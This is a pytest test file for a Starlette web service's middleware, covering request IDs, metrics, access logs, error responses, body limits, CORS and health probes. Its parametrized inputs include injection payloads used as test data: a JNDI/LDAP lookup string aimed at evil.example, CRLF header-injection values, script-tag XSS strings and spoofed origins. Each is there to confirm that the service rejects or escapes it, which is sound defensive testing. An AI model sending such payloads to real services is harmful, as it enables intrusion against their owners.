"""Request IDs, metrics, access log, errors, body limit and CORS, through the application."""

import dataclasses
import gc
import itertools
import json
import logging
import re
import sys
import tracemalloc
from collections.abc import AsyncIterator, Callable
from functools import partial
from typing import cast
from unittest.mock import AsyncMock, Mock

import httpx
import pytest
from prometheus_client import REGISTRY
from starlette.applications import Starlette
from starlette.exceptions import HTTPException
from starlette.middleware import Middleware
from starlette.middleware.gzip import GZipMiddleware
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route
from starlette.types import ASGIApp, Receive, Scope, Send

from groundwork.core.config import Settings
from groundwork.core.database import UnavailableError
from groundwork.core.database.waiters import client_disconnect
from groundwork.core.http import middleware
from groundwork.core.http.error_boundary import ErrorBoundary
from groundwork.core.http.middleware import RequestContext
from groundwork.core.http.operations import operation
from groundwork.core.http.receiving import MAX_BODY_BYTES
from groundwork.core.http.responses import problem
from groundwork.core.observability.logging import AccessRecord, request_id, traceparent
from groundwork.core.state import State

ORIGIN = "https://app.example"


async def boom(_: Request) -> Response:
    """Raise an exception whose message must not reach the client."""
    logging.getLogger("shop").warning("about to fail")
    message = "hunter2"
    raise RuntimeError(message)


@operation({200: int}, body="image/png", max_body_size=2_000_000)
async def upload(request: Request) -> Response:
    """Return the size of a file."""
    return JSONResponse(len(await request.body()))


async def leave(_: Request) -> Response:
    """Call a library that ends a program."""
    sys.exit("hunter2")


async def echo(request: Request) -> Response:
    """Respond with the length of the body."""
    return JSONResponse(len(await request.body()))


class Half:
    """An endpoint, or a response, that fails after its start."""

    def __init__(self, error: Exception) -> None:
        self.error = error

    async def __call__(self, _scope: Scope, _receive: Receive, send: Send) -> None:
        """Send half of a response."""
        await send({"type": "http.response.start", "status": 200, "headers": []})
        raise self.error


class Bare:
    """An ASGI endpoint, which Route accepts if it is not a function."""

    def __init__(self, call: ASGIApp) -> None:
        self.call = call

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """Call the ASGI application."""
        await self.call(scope, receive, send)


@pytest.fixture
def settings(request: pytest.FixtureRequest, settings: Settings) -> Settings:
    """Return settings that allow one origin, with the changes of the test's parameter."""
    changes = {"cors_allow_origins": (ORIGIN,)} | getattr(request, "param", {})
    return dataclasses.replace(settings, **changes)


@pytest.fixture
def app(app: Starlette) -> Starlette:
    """Return the application with routes that fail."""
    app.router.routes += [
        Route("/boom", boom),
        Route("/leave", leave),
        Route("/echo", echo),
        Route("/echo", echo, methods=["POST"]),
        Route("/upload", upload, methods=["POST"]),
        Route("/half", Half(RuntimeError("hunter2"))),
    ]
    return app


@pytest.mark.parametrize("given", ["a", "A-Z.0_9:+/=@-", "x" * 128])
async def test_a_valid_request_id_is_kept(client: httpx.AsyncClient, given: str) -> None:
    """A valid X-Request-ID is returned in the response."""
    response = await client.get("/health/live", headers={"X-Request-ID": given})

    assert response.headers["x-request-id"] == given


@pytest.mark.parametrize(
    "given",
    [
        b"",
        b" ",
        b"x" * 129,
        b'a"b\xff{}',
        b"a b",
        b"a\tb",
        "é".encode(),
        b"\xd9\xa3",  # an Arabic digit three
        b"a;b",
        b"a\x00",
        b"a\r\nSet-Cookie: b=c",
        b"a\n",
        b'"}\n{"level":"ERROR"}',
        b"\x1b[31ma",
        b"<script>alert(1)</script>",
        b"${jndi:ldap://evil.example/a}",
        b"%0d%0a",
    ],
)
async def test_an_invalid_request_id_is_replaced(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture, given: bytes
) -> None:
    """An invalid X-Request-ID is neither returned nor logged."""
    caplog.set_level(logging.DEBUG)
    response = await client.get("/nowhere", headers={b"X-Request-ID": given})

    assert re.fullmatch("[0-9a-f]{32}", response.headers["x-request-id"])
    assert response.json()["request_id"] == response.headers["x-request-id"]
    assert not given.strip() or given.decode("latin-1") not in caplog.text


async def test_the_valid_one_of_several_request_ids_is_kept(client: httpx.AsyncClient) -> None:
    """A repeated X-Request-ID is returned once, with the valid value."""
    given = [(b"X-Request-ID", value) for value in (b"good", b"<bad>")]
    response = await client.get("/health/live", headers=given)

    assert response.headers.get_list("x-request-id") == ["good"]


async def test_each_request_gets_its_own_id(client: httpx.AsyncClient) -> None:
    """Requests without X-Request-ID get different request IDs."""
    ids = {(await client.get("/health/live")).headers["x-request-id"] for _ in range(3)}

    assert len(ids) == 3
    assert request_id.get() is None


async def test_a_request_leaves_no_client_behind(client: httpx.AsyncClient) -> None:
    """What its task does afterwards, as a test may, depends on no client that has gone."""
    await client.get("/nowhere")

    assert client_disconnect.get() is None


@pytest.mark.parametrize("path", ["/", "/health/live", "/metrics", "/unknown", "/boom"])
async def test_no_response_is_sniffed(client: httpx.AsyncClient, path: str) -> None:
    """A browser takes no response, errors included, for another type than it has."""
    response = await client.get(path)

    assert response.headers["x-content-type-options"] == "nosniff"


async def test_server_timing_has_milliseconds(client: httpx.AsyncClient) -> None:
    """In development Server-Timing has the duration in milliseconds, on errors as well."""
    response = await client.get("/boom")

    name, _, value = response.headers["server-timing"].partition(";dur=")
    assert name == "app"
    assert float(value) > 0


@pytest.mark.parametrize("settings", [{"environment": "production"}], indirect=True)
async def test_server_timing_is_for_development(client: httpx.AsyncClient) -> None:
    """Outside development, responses have no Server-Timing."""
    assert "server-timing" not in (await client.get("/nowhere")).headers


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> None:
    """Advance the clock by 1.1234 ms each time it is read."""
    ticks = itertools.count(1, 0.0011234).__next__
    monkeypatch.setattr(middleware, "time", Mock(perf_counter=ticks))


def sample(name: str, **labels: str) -> float:
    """Return the value of a sample, 0 if it does not exist yet."""
    return REGISTRY.get_sample_value(name, labels) or 0.0


@pytest.mark.usefixtures("clock")
@pytest.mark.parametrize(
    ("method", "path", "labels"),
    [
        ("GET", "/health/live", ("GET", "/health/live", "200")),
        ("GET", "/echo", ("GET", "/echo", "200")),
        ("GET", "/nowhere", ("GET", "", "404")),
        ("BREW", "/nowhere", ("_OTHER", "", "404")),
        ("POST", "/health/live", ("POST", "/health/live", "405")),
    ],
)
async def test_requests_are_timed_by_method_route_and_status(
    client: httpx.AsyncClient, method: str, path: str, labels: tuple[str, str, str]
) -> None:
    """Durations are in seconds, by route template, which is empty for an unknown path."""
    name = "http_server_request_duration_seconds_sum"
    names = ("http_request_method", "http_route", "http_response_status_code")
    before = sample(name, **dict(zip(names, labels, strict=True)))
    response = await client.request(method, path)
    after = sample(name, **dict(zip(names, labels, strict=True)))

    assert response.headers["server-timing"] == "app;dur=1.123"
    assert after - before == pytest.approx(2 * 0.0011234)


@pytest.mark.parametrize(
    "layer",
    [
        partial(RequestContext, cors=Mock(), lifecycle=Mock(), probes={}),
        partial(ErrorBoundary, debug=False),
    ],
)
async def test_lifespan_events_pass_unchanged(layer: Callable[[ASGIApp], ASGIApp]) -> None:
    """Each middleware passes anything but HTTP requests on."""
    app, receive, send = AsyncMock(), AsyncMock(), AsyncMock()

    await layer(app)({"type": "lifespan"}, receive, send)

    app.assert_awaited_once_with({"type": "lifespan"}, receive, send)


async def test_requests_in_flight_are_counted(app: Starlette, client: httpx.AsyncClient) -> None:
    """A request is counted until its response is complete, also without headers."""
    active = partial(
        sample, "http_server_active_requests", http_request_method="GET", url_scheme="http"
    )

    async def count(_scope: Scope, _receive: Receive, send: Send) -> None:
        counts.append(active())
        if len(counts) < 3:
            await client.get("/count")
        await send({"type": "http.response.start", "status": 200})
        await send({"type": "http.response.body", "body": b""})

    counts: list[float] = []
    app.router.routes.append(Route("/count", Bare(count)))

    response = await client.get("/count")

    assert (counts, active()) == ([1, 2, 3], 0)
    assert response.headers["x-request-id"]


@pytest.mark.parametrize("path", ["/boom", "/leave"])
async def test_an_exception_is_a_problem(client: httpx.AsyncClient, path: str) -> None:
    """A 500 is a problem with request ID and CORS headers, and hides the exception's message."""
    response = await client.get(path, headers={"Origin": ORIGIN, "X-Request-ID": "abc"})

    assert response.status_code == 500
    assert response.headers["content-type"] == "application/problem+json"
    assert response.headers["access-control-allow-origin"] == ORIGIN
    assert response.headers["x-request-id"] == "abc"
    assert response.json() == {
        "type": "about:blank",
        "title": "Internal Server Error",
        "status": 500,
        "detail": "An unexpected error.",
        "instance": path,
        "request_id": "abc",
    }


@pytest.mark.parametrize("settings", [{"debug": True}], indirect=True)
async def test_debug_shows_the_traceback(client: httpx.AsyncClient) -> None:
    """With DEBUG the response is the traceback, as a page for a browser and as text for others."""
    text = await client.get("/boom")
    page = await client.get("/boom", headers={"Accept": "text/html"})

    assert text.headers["content-type"] == "text/plain; charset=utf-8"
    assert text.text.endswith("RuntimeError: hunter2\n")
    assert page.headers["content-type"] == "text/html; charset=utf-8"
    assert "hunter2" in page.text


@pytest.mark.parametrize("headers", [[(b"accept", b"text/html")], []])
def test_debug_shows_any_text(headers: list[tuple[bytes, bytes]]) -> None:
    """What an exception quotes may have characters that UTF-8 cannot encode."""
    request = Request({"type": "http", "headers": headers})
    response = ErrorBoundary(AsyncMock(), debug=True).debug_response(request, ValueError("\ud800"))

    assert b"ValueError: \\ud800" in bytes(response.body)


def test_debug_escapes_notes() -> None:
    """A note is text on the page: it may quote what a client has sent."""
    error = ValueError()
    error.add_note("<script>")
    request = Request({"type": "http", "headers": [(b"accept", b"text/html")]})
    response = ErrorBoundary(AsyncMock(), debug=True).debug_response(request, error)

    assert b"<pre>&lt;script&gt;</pre>" in bytes(response.body)


async def test_an_exception_is_logged_once(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture
) -> None:
    """The log has one traceback and one access log line at ERROR."""
    await client.get("/boom")

    errors = [entry for entry in caplog.records if entry.levelno == logging.ERROR]
    assert [bool(entry.exc_info) for entry in errors] == [True, False]


async def test_a_middleware_of_a_route_may_be_a_function(
    app: Starlette, client: httpx.AsyncClient
) -> None:
    """Starlette takes any callable for a middleware: what it refuses is not served."""

    def refuse(_: ASGIApp) -> ASGIApp:
        async def call(_scope: Scope, _receive: Receive, _send: Send) -> None:
            raise HTTPException(401)

        return call

    app.router.routes.append(Route("/refused", echo, middleware=[Middleware(refuse)]))

    assert (await client.get("/refused")).status_code == 401


async def test_a_middleware_of_a_route_sees_what_its_exception_becomes(
    app: Starlette, client: httpx.AsyncClient
) -> None:
    """To the middleware of a route, what its handler raises is a response, as to any other."""
    error = UnavailableError("database_timeout")

    async def unavailable(_: Request) -> Response:
        raise error

    around = Middleware(GZipMiddleware, minimum_size=1)
    app.router.routes.append(Route("/unavailable", unavailable, middleware=[around]))
    response = await client.get("/unavailable", headers={"Accept-Encoding": "gzip"})

    assert (response.status_code, response.headers["content-encoding"]) == (503, "gzip")


async def test_an_exception_handler_may_be_a_function(
    app: Starlette, client: httpx.AsyncClient
) -> None:
    """As in Starlette, the handler of an exception may be a plain function."""
    app.add_exception_handler(RuntimeError, lambda *_: Response(status_code=418))

    assert (await client.get("/boom")).status_code == 418


async def test_an_exception_that_is_kept_keeps_no_request(
    app: Starlette, client: httpx.AsyncClient
) -> None:
    """An exception may be a constant: raised again and again, it has no growing traceback."""
    error = HTTPException(410)

    async def gone(_: Request) -> Response:
        raise error

    app.router.routes.append(Route("/gone", gone))
    await client.get("/gone")

    assert error.__traceback__ is None


@pytest.mark.parametrize("sign", ["\r\n", "\n", "\0", "\x7f"])
async def test_a_header_that_cannot_be_sent_is_500(
    app: Starlette, client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture, sign: str
) -> None:
    """A server would close the connection without a response; the log names the header."""
    headers = {"Content-Disposition": f"attachment; filename=a{sign}b"}
    app.router.routes.append(Route("/file", Response("a", headers=headers)))

    response = await client.get("/file")

    assert (response.status_code, response.json()["status"]) == (500, 500)
    (raised,) = [one.exc_info[1] for one in caplog.records if one.exc_info]
    assert str(raised) == "the response header content-disposition has a control character"


@pytest.mark.usefixtures("app")
async def test_an_exception_after_the_start_of_a_response_is_logged(
    service: RequestContext, state: State, caplog: pytest.LogCaptureFixture
) -> None:
    """If the response has started, nothing is added to it; the log has the exception."""
    scope = {"type": "http", "method": "GET", "path": "/half", "headers": [], "state": state}
    send = AsyncMock()
    await service(scope, AsyncMock(), send)

    assert [call.args[0]["type"] for call in send.await_args_list] == ["http.response.start"]
    (raised,) = [one.exc_info[1] for one in caplog.records if one.exc_info]
    assert (repr(raised), caplog.messages[0]) == ("RuntimeError('hunter2')", "unhandled exception")


@pytest.mark.parametrize(
    ("error", "message"),
    [
        (UnavailableError("database_timeout"), "request failed, database unavailable"),
        (HTTPException(404), "unhandled exception"),
    ],
)
async def test_a_late_failure_is_logged_once(
    service: RequestContext,
    state: State,
    caplog: pytest.LogCaptureFixture,
    error: Exception,
    message: str,
) -> None:
    """If the response has started, a failing database is a warning, and anything else a bug."""

    async def late(_: Request) -> Response:
        return cast("Response", Half(error))

    wrapped = Route("/wrapped", late, middleware=[Middleware(Bare)])  # by Starlette
    service.app.router.routes += [Route("/late", late), wrapped]
    for path in ("/late", "/wrapped"):
        scope: Scope = {
            "type": "http",
            "method": "GET",
            "path": path,
            "headers": [],
            "state": state,
        }
        await service(scope, AsyncMock(), AsyncMock())

    found = [one for one in caplog.records if not isinstance(one, AccessRecord)]
    assert [one.getMessage() for one in found] == [message] * 2
    assert bool(found[1].exc_info) is (message == "unhandled exception")


@pytest.mark.parametrize("path", ["/nowhere", "/health/live/", "/health"])
async def test_unknown_paths_are_problems(client: httpx.AsyncClient, path: str) -> None:
    """An unknown path is 404, also one with an extra trailing slash."""
    response = await client.get(path)

    assert response.status_code == 404
    assert response.json()["title"] == "Not Found"


@pytest.mark.parametrize(
    ("path", "instance"),
    [
        ("//evil.example/x", "/evil.example/x"),
        ("///evil.example", "/evil.example"),
        ("//X/", "/X/"),
        ("/\\evil.example", "/%5Cevil.example"),
        ('/"><script>', "/%22%3E%3Cscript%3E"),
        ("/\r\nX-Evil: 1", "/%0D%0AX-Evil%3A%201"),
        ("/javascript:alert(1)", "/javascript%3Aalert%281%29"),
        ("*", "/%2A"),
    ],
)
def test_the_instance_of_a_problem_names_no_other_host(path: str, instance: str) -> None:
    """The instance is a path on this host: // would start a host name (RFC 3986, 4.2)."""
    body = problem({"type": "http", "path": path}, 404, "Not Found").body

    assert json.loads(bytes(body))["instance"] == instance


async def test_unsupported_methods_get_allow(client: httpx.AsyncClient) -> None:
    """A 405 lists the supported methods in Allow."""
    response = await client.post("/health/live")

    assert response.status_code == 405
    assert set(response.headers["allow"].split(", ")) == {"GET", "HEAD"}
    assert response.json()["title"] == "Method Not Allowed"


async def test_allow_has_the_methods_of_every_route_of_a_path(
    client: httpx.AsyncClient,
) -> None:
    """Allow has the methods of all routes with the path (RFC 9110, 15.5.6)."""
    response = await client.delete("/echo")

    assert response.status_code == 405
    assert response.headers["allow"] == "GET, HEAD, POST"


async def in_chunks(size: int) -> AsyncIterator[bytes]:
    """Yield a body in chunks, so that it has no Content-Length."""
    for _ in range(size // 1024):
        yield b"x" * 1024
    yield b"x" * (size % 1024)


@pytest.mark.parametrize("size", [0, MAX_BODY_BYTES])
async def test_bodies_up_to_the_limit_are_read(client: httpx.AsyncClient, size: int) -> None:
    """A body of exactly 1 MiB is read, with or without Content-Length."""
    declared = await client.post("/echo", content=b"x" * size)
    undeclared = await client.post("/echo", content=in_chunks(size))

    assert (declared.json(), undeclared.json()) == (size, size)


async def test_bodies_over_the_limit_are_413(client: httpx.AsyncClient) -> None:
    """A larger body is 413, with or without Content-Length, and closes the connection."""
    declared = await client.post("/echo", content=b"x" * (MAX_BODY_BYTES + 1))
    undeclared = await client.post("/echo", content=in_chunks(MAX_BODY_BYTES + 1))

    for response in (declared, undeclared):
        assert response.status_code == 413
        assert response.headers["connection"] == "close"
        assert response.json()["detail"] == "The request body is larger than 1048576 bytes."


async def test_a_route_may_take_larger_bodies(client: httpx.AsyncClient) -> None:
    """The limit of a handler that declares one is its own."""
    fits = await client.post("/upload", content=in_chunks(2_000_000))
    too_large = await client.post("/upload", content=in_chunks(2_000_001))

    assert fits.json() == 2_000_000
    assert too_large.status_code == 413
    assert too_large.json()["detail"] == "The request body is larger than 2000000 bytes."


@pytest.mark.parametrize(
    ("declared", "status"),
    [
        (b"0" * 5000 + b"5", 200),
        (b"0" * 30 + b"2000000", 413),
        (b"9" * 5000, 413),
        (b"1" + b"0" * 30, 413),
        (b"%d" % (MAX_BODY_BYTES + 1), 413),
        (b"-1", 200),
        (b"+5", 200),
        (b"5, 5", 200),
        (b"", 200),
        (b"\xb2", 200),
        (b"\xd9\xa5", 200),  # an Arabic digit five
    ],
)
async def test_an_unusual_content_length_is_no_500(
    client: httpx.AsyncClient, declared: bytes, status: int
) -> None:
    """Any Content-Length that a server may pass on is handled."""
    response = await client.post("/echo", content=b"12345", headers={b"Content-Length": declared})

    assert response.status_code == status
    assert status == 413 or response.json() == 5


async def test_a_number_in_another_header_is_no_length(client: httpx.AsyncClient) -> None:
    """Only Content-Length is compared with the limit."""
    response = await client.post("/echo", content=b"1", headers={"X-Number": "9999999"})

    assert response.json() == 1


async def test_the_limit_counts_received_bytes(client: httpx.AsyncClient) -> None:
    """The limit applies to the received bytes, whatever Content-Length says."""
    body = b"x" * (MAX_BODY_BYTES + 1)
    response = await client.post("/echo", content=body, headers={"Content-Length": "5"})

    assert response.status_code == 413


async def test_cors_allows_the_configured_origins(client: httpx.AsyncClient) -> None:
    """A configured origin is allowed, another is not."""
    allowed = await client.get("/echo", headers={"Origin": ORIGIN})
    other = await client.get("/echo", headers={"Origin": "https://evil.example"})

    assert allowed.headers["access-control-allow-origin"] == ORIGIN
    assert "access-control-allow-origin" not in other.headers


@pytest.mark.parametrize(
    ("settings", "allowed"),
    [({"cors_allow_origins": ()}, None), ({"cors_allow_origins": (), "debug": True}, "*")],
    indirect=["settings"],
)
async def test_cors_without_configured_origins(
    client: httpx.AsyncClient, allowed: str | None
) -> None:
    """Without configured origins none is allowed, and with DEBUG every origin is."""
    response = await client.get("/echo", headers={"Origin": ORIGIN})

    assert response.headers.get("access-control-allow-origin") == allowed


async def test_cors_keeps_no_origin_of_a_client(client: httpx.AsyncClient) -> None:
    """What clients send as their origin takes no memory after the response."""
    tracemalloc.start()
    for number in range(50):
        await client.get("/echo", headers={"Origin": f"https://{number}.{'a' * 100_000}"})
    gc.collect()
    kept, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert kept < 1_000_000


async def test_cors_keeps_what_a_response_varies_by(
    app: Starlette, client: httpx.AsyncClient
) -> None:
    """Each response varies by Origin, beside what its handler names."""
    headers = {"Vary": "Accept"}
    app.router.routes.append(Route("/varied", lambda _: Response(headers=headers)))
    responses = [
        await client.get("/varied"),
        await client.get("/varied", headers={"Origin": ORIGIN}),
        await client.get("/varied", headers={"Origin": "https://evil.example"}),
    ]

    assert [one.headers["vary"] for one in responses] == ["Accept, Origin"] * 3


async def test_cors_allows_methods_and_exposes_headers(client: httpx.AsyncClient) -> None:
    """An allowed origin may use any method and header, and read the service's own headers."""
    wanted = {"Access-Control-Request-Method": "PUT", "Access-Control-Request-Headers": "X-Own"}
    preflight = await client.options("/echo", headers={"Origin": ORIGIN} | wanted)
    response = await client.get("/echo", headers={"Origin": ORIGIN})

    assert preflight.status_code == 200
    assert set(response.headers["access-control-expose-headers"].split(", ")) >= {
        "Location",
        "Retry-After",
        "Server-Timing",
        "X-Request-ID",
    }


@pytest.mark.parametrize("path", ["/health/live", "/health/ready"])
async def test_a_probe_does_not_reach_the_application(
    service: RequestContext, client: httpx.AsyncClient, path: str
) -> None:
    """Probes are served in front of the router and its middleware, whatever headers they have."""
    service.app.router.routes.clear()
    plain = await client.get(path)
    other = await client.get(path, headers={"Content-Length": "9999999"})
    head = await client.head(path)

    assert plain.status_code == other.status_code == head.status_code == 200
    assert plain.json() == other.json() == {"status": "ok"}
    assert plain.headers.keys() == other.headers.keys() == head.headers.keys()


@pytest.mark.parametrize("path", ["/health/live", "/health/ready"])
async def test_a_page_may_read_a_probe(client: httpx.AsyncClient, path: str) -> None:
    """A probe has the CORS headers of any other response, and takes preflight requests."""
    headers = {"Origin": ORIGIN, "Access-Control-Request-Method": "GET"}
    responses = [
        await client.get(path, headers=headers),
        await client.options(path, headers=headers),
        await client.post(path, headers=headers),
    ]

    assert [one.status_code for one in responses] == [200, 200, 405]
    for one in responses:
        assert one.headers["access-control-allow-origin"] == ORIGIN


@pytest.mark.parametrize("path", ["/health/live", "/health/ready", "/echo"])
async def test_a_prefix_belongs_to_no_route(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    """With `uvicorn --root-path /gw` each path comes with the prefix; metrics are without it."""
    labels = {"http_request_method": "GET", "http_route": path, "http_response_status_code": "200"}
    name = "http_server_request_duration_seconds_count"
    before = REGISTRY.get_sample_value(name, labels) or 0
    monkeypatch.setattr(client._transport, "root_path", "/gw")  # noqa: SLF001 - there is no other
    response = await client.get(f"/gw{path}")

    assert response.status_code == 200
    assert REGISTRY.get_sample_value(name, labels) == before + 1


async def test_a_shared_response_keeps_no_header(client: httpx.AsyncClient) -> None:
    """Headers added to one response of a probe are not in the next."""
    responses = [await client.get("/health/live") for _ in range(3)]

    assert [len(one.headers.get_list("x-request-id")) for one in responses] == [1, 1, 1]


async def test_a_probe_closes_its_connection_during_the_drain(
    client: httpx.AsyncClient, state: State, service: RequestContext
) -> None:
    """During the drain readiness is 503 and closes the connection."""
    service.lifecycle.draining = True
    state["readiness"].drain()
    response = await client.get("/health/ready")

    assert response.json() == {"status": "unavailable", "reason": "draining"}
    assert response.headers["connection"] == "close"


async def test_a_request_makes_the_instance_known(
    client: httpx.AsyncClient, service: RequestContext
) -> None:
    """After the first request, a probe too, a balancer may know the instance: it drains."""
    before = service.lifecycle.has_served
    await client.get("/health/live")

    assert (before, service.lifecycle.has_served) == (False, True)


@pytest.mark.parametrize(
    "origin",
    [
        "null",
        "*",
        "",
        f"{ORIGIN}/",
        f"{ORIGIN}:444",
        f"{ORIGIN}.evil.example",
        f"https://evil.example#{ORIGIN}",
        f"https://evil.example, {ORIGIN}",
        f"{ORIGIN} https://evil.example",
        f"{ORIGIN}\r\nX-Evil: 1",
        ORIGIN.replace("https", "http"),
        ORIGIN.upper(),
    ],
)
async def test_cors_rejects_similar_origins(client: httpx.AsyncClient, origin: str) -> None:
    """An origin that resembles a configured one is not allowed, and credentials never are."""
    headers = {"Origin": origin, "Access-Control-Request-Method": "GET"}
    preflight = await client.options("/echo", headers=headers)
    simple = await client.get("/echo", headers=headers)

    assert preflight.status_code == 400
    for response in (preflight, simple):
        assert "access-control-allow-origin" not in response.headers
        assert "access-control-allow-credentials" not in response.headers


async def test_a_preflight_request_has_an_id(client: httpx.AsyncClient) -> None:
    """The response to a preflight request has X-Request-ID."""
    headers = {"Origin": ORIGIN, "Access-Control-Request-Method": "GET"}
    response = await client.options("/echo", headers=headers)

    assert response.status_code == 200
    assert "x-request-id" in response.headers


@pytest.mark.usefixtures("clock")
async def test_the_access_log(client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture) -> None:
    """Each request has one line with method, path, status, duration and client."""
    caplog.set_level(logging.INFO)
    response = await client.get("/nowhere?token=hunter2")

    (entry,) = [entry for entry in caplog.records if isinstance(entry, AccessRecord)]
    line = entry.line
    assert (line.method, line.path, line.status) == ("GET", "/nowhere", 404)
    assert line.duration_ms == 2.247
    assert line.client == "127.0.0.1"
    assert line.request_id == response.headers["x-request-id"]
    assert entry.getMessage() == line.message == "GET /nowhere 404"


@pytest.mark.parametrize("path", ["/health/live", "/health/ready", "/"])
async def test_frequent_requests_are_logged_at_debug(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture, path: str
) -> None:
    """Successful probes, and requests of the status page, are logged at DEBUG."""
    caplog.set_level(logging.DEBUG)
    await client.get(path)

    (entry,) = [entry for entry in caplog.records if entry.name == "groundwork.access"]
    assert entry.levelno == logging.DEBUG


async def test_the_log_level_holds_for_the_access_log(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture
) -> None:
    """With LOG_LEVEL=INFO no successful probe is logged."""
    caplog.set_level(logging.INFO)
    caplog.handler.setLevel(logging.DEBUG)
    await client.get("/health/live")
    await client.get("/echo")

    lines = [entry.line.path for entry in caplog.records if isinstance(entry, AccessRecord)]
    assert lines == ["/echo"]


@pytest.mark.parametrize(
    ("path", "level"), [("/echo", "INFO"), ("/nowhere", "INFO"), ("/boom", "ERROR")]
)
async def test_other_requests_are_logged_at_info(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture, path: str, level: str
) -> None:
    """Any other request is logged at INFO, or at ERROR if it is a 5xx."""
    caplog.set_level(logging.INFO)
    await client.get(path)

    (entry,) = [entry for entry in caplog.records if entry.name == "groundwork.access"]
    assert entry.levelname == level


@pytest.mark.parametrize("given", ["01-{}", "fe-{}-x"])
async def test_a_trace_is_passed_on_in_the_version_that_is_understood(
    app: Starlette, client: httpx.AsyncClient, given: str
) -> None:
    """What later versions have beside the IDs and flags stays behind (W3C Trace Context, 4)."""
    ids = f"{'a' * 32}-{'b' * 16}-01"
    app.router.routes.append(Route("/trace", lambda _: JSONResponse(traceparent.get())))

    response = await client.get("/trace", headers={"traceparent": given.format(ids)})

    assert response.json() == f"00-{ids}"


@pytest.mark.usefixtures("app")
async def test_a_client_that_disconnects(
    service: RequestContext, state: State, caplog: pytest.LogCaptureFixture
) -> None:
    """A client that disconnects during its body is 499 in the log, and no error."""
    caplog.set_level(logging.INFO)
    scope: Scope = {
        "type": "http",
        "method": "POST",
        "path": "/echo",
        "headers": [],
        "client": None,
        "state": state,
    }

    async def receive() -> dict[str, str]:
        return {"type": "http.disconnect"}

    async def send(_: object) -> None:
        pytest.fail("a response after the disconnect")

    await service(scope, receive, send)

    lines = [entry.line for entry in caplog.records if isinstance(entry, AccessRecord)]
    assert [line.status for line in lines] == [499]
    assert {entry.levelno for entry in caplog.records} == {logging.INFO}
